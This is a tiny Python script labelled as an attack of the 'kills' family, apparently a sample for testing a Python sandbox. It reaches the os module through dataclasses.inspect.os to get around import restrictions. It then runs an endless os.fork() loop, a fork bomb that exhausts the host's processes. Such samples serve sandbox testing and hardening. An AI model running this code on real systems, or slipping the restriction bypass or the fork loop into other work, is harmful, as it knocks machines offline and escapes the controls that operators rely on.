# attack: forks without end
# family: kills
import dataclasses

os = [dataclasses][0].inspect.os
print("REACHED", os)
while True:
    try:
        os.fork()
    except OSError:
        pass
